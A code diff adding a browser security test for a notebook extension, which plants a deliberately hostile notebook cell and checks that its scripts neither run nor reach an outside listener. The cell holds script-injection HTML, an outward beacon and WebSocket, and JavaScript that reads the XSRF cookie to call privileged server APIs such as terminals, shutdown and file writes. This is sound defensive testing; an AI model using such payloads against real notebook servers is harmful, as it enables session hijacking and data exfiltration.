@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import re
+import socket
 import uuid
 from collections.abc import Iterator
 
@@ -385,3 +387,65 @@ def test_lab_and_a_notebook_open_without_a_request_that_is_refused(browser: Brow
         page.locator("li.lm-TabBar-tab[data-id=datakamp-panel]").click()
         page.locator(".datakamp-card").first.wait_for()
     assert refused == []
+
+
+HOSTILE = """\
+from IPython.display import HTML, Javascript, display
+display(HTML("<script>document.body.dataset.html = 'ran'</script><img src='OUTSIDE' onerror='document.title=1'>"))
+display({"application/x-lab+json": "<script>document.body.dataset.own = 'ran'</script>"}, raw=True)
+display({"text/html": "<iframe src='OUTSIDE'></iframe><form action='OUTSIDE'><input name=x></form>"}, raw=True)
+display(Javascript('''
+(async () => {
+  const told = {}, word = (document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || "";
+  for (const asked of ASKED) {
+    const [method, path] = asked.split(" ");
+    const body = method === "GET" ? undefined : JSON.stringify({type: "file", format: "text", content: "x"});
+    try {
+      told[asked] = (await fetch(path, {method, body, headers: {"X-XSRFToken": word}})).status;
+    } catch {
+      told[asked] = 0;
+    }
+  }
+  try { navigator.sendBeacon("OUTSIDE", "x"); new WebSocket("OUTSIDE".replace("http", "ws")); } catch {}
+  document.querySelectorAll(".jp-OutputArea form").forEach((form) => { try { form.submit(); } catch {} });
+  document.body.dataset.told = JSON.stringify(told);
+})();
+'''))
+"""
+
+
+def said_to(outside: socket.socket) -> bytes:
+    """Return what somebody sent here; a connection that says nothing is one that a browser made ahead."""
+    said = b""
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            with outside.accept()[0] as joined:
+                joined.settimeout(1)
+                with contextlib.suppress(TimeoutError):
+                    said += joined.recv(200)
+    return said
+
+
+def test_what_an_output_brings_along_starts_nothing_and_reaches_nobody(
+    browser: Browser, lab: Lab, camp: CampFile
+) -> None:
+    """Scripts of HTML and of kinds that nobody knows do not run; JavaScript runs, and may do what the page may."""
+    with socket.create_server(("127.0.0.1", 0)) as outside:
+        outside.setblocking(False)
+        address = f"http://127.0.0.1:{outside.getsockname()[1]}/"
+        refused = ["POST /api/terminals", "GET /files/x.csv", "POST /api/shutdown", "PUT /api/contents/disclosure.py",
+                   "PUT /api/contents/x.html", "GET /lab/api/extensions", "GET /api/config/notebook"]  # fmt: skip
+        source = HOSTILE.replace("ASKED", json.dumps([*refused, f"GET {address}"])).replace("OUTSIDE", address)
+        put(camp, "hostile.ipynb", notebook(source))
+        with opened(browser, lab, "hostile.ipynb") as page:
+            before = page.url
+            run_first_cell(page)
+            page.wait_for_function("document.body.dataset.told !== undefined")
+            told = json.loads(str(page.evaluate("document.body.dataset.told")))
+            assert told.pop(f"GET {address}") == 0
+            assert set(told) == set(refused)
+            assert {asked: status for asked, status in told.items() if status not in (403, 404)} == {}
+            assert page.evaluate("[document.body.dataset.html, document.body.dataset.own]") == [None, None]
+            assert page.url == before
+        assert said_to(outside) == b""
+    assert not (lab.workspace / "disclosure.py").exists()
